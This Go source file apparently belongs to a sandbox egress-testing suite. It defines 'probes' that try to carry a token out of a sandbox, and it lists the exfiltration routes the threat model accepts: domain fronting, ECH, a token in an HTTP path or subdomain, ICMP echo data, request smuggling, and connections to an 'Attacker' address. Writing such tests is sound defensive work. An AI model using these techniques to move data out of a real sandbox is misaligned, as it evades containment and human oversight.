// Package probes is what a program in a sandbox tries to get out: each probe is one way,
// in the words of an attacker. A probe is the same code inside, where it must fail,
// and outside, on the host, where it must succeed: so one that is broken in itself
// doesn't pass for one that was held.
//
// To add one, write it into the list of its category. Try returns nil if, as far as the
// attacker can tell, it got through, and takes the token with it: what leaves the
// sandbox is searched for the tokens of all probes, in every way of writing that Encodings
// knows. What carries no token (a bit in the case of a letter, a port number) says
// Tokenless, and is judged by what crossed: nothing but what a rule allows may.
package probes

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// A Probe is one attempt.
type Probe struct {
	Name     string // unique, kebab-case
	Category string
	What     string // in one line
	Try      func(a Aim) error

	Tokenless bool   // no token is to be seen at the far end, even outside
	Body      bool   // the token may cross as the body of an allowed request: what counts is who a server takes it to be for
	Slow      bool   // it may take longer to be refused than a person would notice
	Python    string // instead of Try: a script that exits with 0 if it got through; its arguments are where, token
	Known     string // why it may get through inside: see docs/threat-model.md
}

// An Aim is one try of a probe.
type Aim struct {
	Token  string // what is to get out
	Inside bool   // of a sandbox
}

// A Result is what came of it.
type Result struct {
	Name    string        `json:"name"`
	Through bool          `json:"through"`          // as the attacker sees it
	Absent  bool          `json:"absent,omitempty"` // this kernel has nothing of the kind
	Err     string        `json:"err,omitempty"`
	Took    time.Duration `json:"took"`
}

// All lists the probes by category.
func All() []Probe {
	return slices.Concat(dnsProbes(), dnsOddProbes(), addressProbes(), reuseProbes(), rebindingProbes(), tlsProbes(), httpProbes(), datagramProbes(),
		socketProbes(), optionProbes(), netlinkProbes(), ipv6Probes(), hostProbes(), environmentProbes(), pythonProbes(), allowedProbes())
}

// Named finds a probe.
func Named(name string) (Probe, bool) {
	all := All()
	i := slices.IndexFunc(all, func(p Probe) bool { return p.Name == name })
	if i < 0 {
		return Probe{}, false
	}
	return all[i], true
}

// absent are errors of a kernel that doesn't know what was asked for. Inside, seccomp
// says the same on purpose: only outside do they mean that.
var absent = []error{unix.EAFNOSUPPORT, unix.EPROTONOSUPPORT, unix.ESOCKTNOSUPPORT, unix.ENOPROTOOPT, unix.ENOSYS}

// Run tries a probe.
func (p Probe) Run(a Aim) Result {
	start := time.Now()
	try := p.Try
	if p.Python != "" {
		try = p.python
	}
	err := try(a)
	r := Result{Name: p.Name, Through: err == nil, Took: time.Since(start)}
	if err != nil {
		r.Err = err.Error()
		r.Absent = !a.Inside && slices.ContainsFunc(absent, func(e error) bool { return errors.Is(err, e) })
	}
	return r
}

func (p Probe) python(a Aim) error {
	where := "outside"
	if a.Inside {
		where = "inside"
	}
	cmd := exec.Command("/usr/bin/python3", "-I", "-c", prelude+p.Python, where, a.Token)
	cmd.Env = append(os.Environ(), "PYTHONDONTWRITEBYTECODE=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%w: %s", err, lastLine(string(out)))
	}
	return nil
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	return s[strings.LastIndex(s, "\n")+1:]
}

const allowedCategory = "Known and accepted"

// allowedProbes are ways out that docs/threat-model.md says are open. They show that the rest of the
// suite would see one.
func allowedProbes() []Probe {
	var ps []Probe
	add := func(name, what, why string, try func(Aim) error) {
		ps = append(ps, Probe{Name: "allowed-" + name, Category: allowedCategory, What: what, Known: why, Try: try})
	}
	add("https", "data to an allowed host, with TLS", "a rule for a host trusts it", handshake(goodName, 443, goodName, goodName))
	add("fronting", "another host inside of TLS with an allowed name", "inside TLS nothing is read", handshake(goodName, 443, goodName, otherName))
	add("ech", "an encrypted name behind an allowed one", "inside TLS nothing is read", greet(443, 0, hello{names: []string{goodName}, more: ech(otherName)}))
	add("http", "data in a request to an allowed host", "a rule for a host trusts it", func(a Aim) error {
		c, err := reach(goodName, 80)
		if err != nil {
			return err
		}
		defer func() { _ = c.Close() }()
		if _, err := io.WriteString(c, strings.ReplaceAll("GET /TOKEN HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n", "TOKEN", a.Token)); err != nil {
			return err
		}
		said, err := io.ReadAll(c)
		if !strings.Contains(string(said), "200 OK") {
			return errors.Join(err, errors.New(http.StatusText(http.StatusBadGateway)))
		}
		return nil
	})
	add("name", "a name under a wildcard, connected to", "the budget of a wildcard bounds how much", func(a Aim) error {
		return handshake(a.Token+".many.example", 443, a.Token+".many.example", a.Token+".many.example")(a)
	})
	add("tcp", "a protocol of one's own to an allowed host", "a rule for a host trusts it", func(a Aim) error {
		c, err := reach("echo.example", 7)
		if err != nil {
			return err
		}
		_, err = speak(c, []byte("\x00"+a.Token))
		return err
	})
	add("cidr", "the same to an allowed address", "a rule for an address trusts it", tell("tcp", Database+":5432"))
	add("cidr-udp", "a datagram to one", "a rule for an address trusts it", tell("udp", Datagram+":4500"))
	add("ping", "data in an echo request to an address that a rule allows them to", "a rule for an address trusts it", ping(unix.AF_INET, unix.IPPROTO_ICMP, Pingable, 8))
	add("second-hello", "two hellos with the allowed name, as a server asks for them", "a rule for a host trusts it", func(a Aim) error {
		return secondHello(a.Token, goodName, 0, nil)
	})
	add("after-nonsense", "a request to another host after a line that is none, to a server that goes on after one", "what begins as no HTTP is not read, on a port where anything may be spoken", func(a Aim) error {
		c, err := reach(goodName, lengthFirst)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(c, "\x00\r\n\r\n"+strings.ReplaceAll(smuggled, "TOKEN", a.Token)); err != nil {
			return err
		}
		_, err = speak(c, nil)
		return err
	})
	add("opaque", "another name in TLS where a rule says protocol = \"tcp\"", "the rule says so", handshake("opaque.example", 443, otherName, otherName))
	add("wide", "any public address, by a rule for 0.0.0.0/0", "the rule says so", tell("tcp", join(Attacker, Wide)))
	add("wide-6", "the same by IPv6", "the rule says so", tell("tcp", join(Attacker6, Wide)))
	return ps
}
